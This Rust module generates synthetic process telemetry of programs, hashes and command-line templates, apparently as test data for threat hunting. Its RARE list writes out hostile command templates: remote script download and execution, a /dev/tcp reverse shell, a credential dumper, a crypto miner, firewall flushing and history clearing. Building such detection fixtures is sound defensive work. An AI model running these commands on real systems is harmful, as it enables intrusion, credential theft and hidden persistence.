//! What runs on the machines of the month: programs, their folders and their command lines.

use crate::chance::Chance;

/// One program.
pub struct Program {
    pub name: String,
    pub folder: String,
    /// Command lines; `{n}`, `{hex}`, `{path}`, `{host}` and `{text}` are filled in.
    pub lines: Vec<String>,
    pub sha1: String,
    pub sha256: String,
    pub md5: String,
    pub size: i64,
}

/// Name, folder, command lines; the most frequent first.
const COMMON: &[(&str, &str, &[&str])] = &[
    ("sh", "/usr/bin", &["sh -c {path}", "sh -c '/usr/bin/test -x {path} && {path}'", "sh"]),
    ("bash", "/usr/bin", &["bash {path}.sh --id {n}", "-bash", "bash -c 'set -e; cd {path}; make -j{n}'"]),
    ("grep", "/usr/bin", &["grep -q {hex} {path}", "grep -rn {text} {path}", "grep -E ^{text}$"]),
    ("cat", "/usr/bin", &["cat {path}", "cat /proc/{n}/status"]),
    ("sed", "/usr/bin", &["sed -n s/{hex}/{text}/p {path}", "sed -i {n}d {path}"]),
    ("awk", "/usr/bin", &["awk '{print $1}' {path}", "awk -F: '$3>={n}' /etc/passwd"]),
    (
        "python3",
        "/usr/bin",
        &[
            "python3 {path}.py --shard {n} --run {hex}",
            "python3 -m http.server {n}",
            "/usr/bin/python3 -c 'import json,sys; print({n})'",
        ],
    ),
    ("sleep", "/usr/bin", &["sleep {n}"]),
    ("date", "/usr/bin", &["date +%s", "date -u +%FT%TZ"]),
    ("id", "/usr/bin", &["id -u", "id {text}"]),
    ("ps", "/usr/bin", &["ps aux", "ps -o pid= -p {n}"]),
    (
        "git",
        "/usr/bin",
        &["git fetch --depth {n} origin {hex}", "git -C {path} status --porcelain", "git rev-parse {hex}"],
    ),
    (
        "runc",
        "/usr/bin",
        &[
            "runc --root /run/containerd/runc/k8s.io --log {path}/log.json exec --process {path} --detach --pid-file {path} {hex}{hex}",
        ],
    ),
    (
        "containerd-shim-runc-v2",
        "/usr/bin",
        &[
            "containerd-shim-runc-v2 -namespace k8s.io -id {hex}{hex}{hex}{hex} -address /run/containerd/containerd.sock",
        ],
    ),
    (
        "curl",
        "/usr/bin",
        &[
            "curl -fsS https://{host}/api/v1/{text}/{n}",
            "curl -s -o {path} https://{host}/{hex}.tar.gz",
            "curl --retry 3 -H 'X-Request-Id: {hex}' https://{host}/healthz",
        ],
    ),
    (
        "node",
        "/usr/local/bin",
        &["node --max-old-space-size={n} {path}.js --config {path}.json --cluster {text} --trace {hex}"],
    ),
    ("java", "/usr/lib/jvm/java-17/bin", &["JARS"]),
    (
        "psql",
        "/usr/lib/postgresql/15/bin",
        &["psql -h {host} -U app -d {text} -c 'select * from jobs where id={n}'"],
    ),
    ("cron", "/usr/sbin", &["/usr/sbin/cron -f", "/usr/sbin/CRON -f"]),
    ("sudo", "/usr/bin", &["sudo -u {text} {path}", "sudo -n /usr/bin/systemctl status {text}"]),
    (
        "systemctl",
        "/usr/bin",
        &["systemctl is-active {text}.service", "systemctl show --property=MainPID {text}"],
    ),
    ("sshd", "/usr/sbin", &["sshd: {text} [priv]", "/usr/sbin/sshd -D -R"]),
    ("ssh", "/usr/bin", &["ssh -o BatchMode=yes {text}@{host} {path}", "ssh -i {path} {host}"]),
    ("tar", "/usr/bin", &["tar -czf {path}.tar.gz {path}", "tar -xf {path}"]),
    ("find", "/usr/bin", &["find {path} -mtime +{n} -delete", "find / -perm -4000 -type f"]),
    ("apt-get", "/usr/bin", &["apt-get -q update", "apt-get install -y --no-install-recommends {text}"]),
    (
        "dpkg",
        "/usr/bin",
        &["dpkg --status-fd {n} --configure --pending", "dpkg-query -W -f=${Version} {text}"],
    ),
    ("rsync", "/usr/bin", &["rsync -a --delete {path} {host}:{path}"]),
    (
        "openssl",
        "/usr/bin",
        &["openssl x509 -noout -enddate -in {path}.pem", "openssl s_client -connect {host}:443"],
    ),
    ("perl", "/usr/bin", &["perl -e 'print {n}'", "perl {path}.pl --batch {hex}"]),
    ("php-fpm8.2", "/usr/sbin", &["php-fpm: pool {text}"]),
    ("nginx", "/usr/sbin", &["nginx: worker process", "nginx -t -c {path}.conf"]),
    (
        "docker",
        "/usr/bin",
        &["docker run --rm -e TOKEN={hex} -v {path}:/data registry.{host}/{text}:{n} --mode batch"],
    ),
    (
        "kubectl",
        "/usr/local/bin",
        &["kubectl -n {text} get pods -o json", "kubectl exec -it {text}-{hex} -- sh"],
    ),
    ("wget", "/usr/bin", &["wget -q -O {path} http://{host}/{text}", "wget --spider https://{host}/{hex}"]),
    ("base64", "/usr/bin", &["base64 -d {path}", "base64 --decode"]),
    ("nc", "/usr/bin", &["nc -z -w 3 {host} {n}", "nc -lvp {n}"]),
    ("chmod", "/usr/bin", &["chmod +x {path}", "chmod 600 {path}"]),
    ("useradd", "/usr/sbin", &["useradd -r -s /usr/sbin/nologin {text}"]),
    ("crontab", "/usr/bin", &["crontab -l", "crontab {path}"]),
    ("tcpdump", "/usr/bin", &["tcpdump -i any -c {n} -w {path}.pcap"]),
    ("nmap", "/usr/bin", &["nmap -sS -p 1-{n} {host}"]),
    ("socat", "/usr/bin", &["socat TCP-LISTEN:{n},fork TCP:{host}:443"]),
];

/// Seldom, and what a hunter looks for.
pub const RARE: &[&str] = &[
    "bash -c 'curl -fsSL http://{host}/x.sh | bash'",
    "bash -c 'echo {hex}{hex}{hex} | base64 -d | bash'",
    "bash -i >& /dev/tcp/{host}/{n} 0>&1",
    "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'",
    "/tmp/.{text}/mimipenguin --dump {n}",
    "/dev/shm/{hex} -o stratum+tcp://{host}:{n} -u {hex} --donate-level 1",
    "chattr +i /etc/cron.d/{text}",
    "sh -c 'wget http://{host}/{hex} -O /tmp/{hex}; chmod +x /tmp/{hex}; /tmp/{hex}'",
    "iptables -F",
    "history -c",
];

const WORDS: &[&str] = &[
    "ledger",
    "orders",
    "billing",
    "search",
    "catalogue",
    "session",
    "report",
    "mailer",
    "queue",
    "worker",
    "gateway",
    "profile",
    "payment",
    "stock",
    "shipping",
    "metrics",
    "audit",
    "batch",
    "export",
    "import",
    "backup",
    "media",
    "render",
    "notify",
    "invoice",
    "price",
    "review",
    "basket",
    "customer",
    "contract",
];

pub fn hex(chance: &mut Chance, digits: usize) -> String {
    let mut out = String::with_capacity(digits + 16);
    while out.len() < digits {
        out.push_str(&format!("{:016x}", chance.next()));
    }
    out.truncate(digits);
    out
}

/// `count` programs, the usual ones first.
pub fn programs(count: usize, chance: &mut Chance) -> Vec<Program> {
    let mut out: Vec<Program> = Vec::with_capacity(count);
    for at in 0..count {
        let (name, folder, lines) = match COMMON.get(at) {
            Some((name, folder, lines)) => {
                let lines = lines.iter().map(|l| if *l == "JARS" { jars(chance) } else { (*l).to_owned() });
                ((*name).to_owned(), (*folder).to_owned(), lines.collect())
            }
            None => {
                let name = format!("{}-{}{}", chance.pick(WORDS), chance.pick(WORDS), at);
                let folder = format!("/opt/{}/bin", chance.pick(WORDS));
                let line =
                    format!("{folder}/{name} --config {{path}}.toml --instance {{n}} --trace-id {{hex}}");
                (name, folder, vec![line, "{path} --once".to_owned()])
            }
        };
        out.push(Program {
            name,
            folder,
            lines,
            sha1: hex(chance, 40),
            sha256: hex(chance, 64),
            md5: hex(chance, 32),
            size: 8_000 + chance.below(60_000_000) as i64,
        });
    }
    out
}

/// A command line of some two thousand characters, as application servers have.
fn jars(chance: &mut Chance) -> String {
    let jars: Vec<String> = (0..45)
        .map(|_| {
            format!("/opt/app/lib/{}-{}-{}.jar", chance.pick(WORDS), chance.pick(WORDS), chance.below(30))
        })
        .collect();
    format!(
        "java -Xmx{{n}}m -Dservice={{text}} -Drun={{hex}} -cp {} com.example.{{text}}.Main",
        jars.join(":")
    )
}

/// Fills a command line in.
pub fn fill(template: &str, chance: &mut Chance, out: &mut String) {
    use std::fmt::Write;
    let mut rest = template;
    while let Some(at) = rest.find('{') {
        out.push_str(&rest[..at]);
        rest = &rest[at..];
        let end = rest.find('}').map_or(rest.len(), |e| e + 1);
        match &rest[..end] {
            "{n}" => write!(out, "{}", 1 + chance.below(4096)),
            "{hex}" => write!(out, "{:012x}", chance.next() >> 16),
            "{text}" => write!(out, "{}", chance.pick(WORDS)),
            "{host}" => write!(out, "{}", host(chance)),
            "{path}" => {
                write!(
                    out,
                    "/var/lib/{}/{}/{:04x}",
                    chance.pick(WORDS),
                    chance.pick(WORDS),
                    chance.below(65536)
                )
            }
            other => write!(out, "{other}"),
        }
        .expect("a string can be written to");
        rest = &rest[end..];
    }
    out.push_str(rest);
}

pub fn host(chance: &mut Chance) -> String {
    format!("{}{}.example.net", chance.pick(WORDS), chance.below(40))
}

pub fn word(chance: &mut Chance) -> &'static str {
    WORDS[chance.below(WORDS.len() as u64) as usize]
}
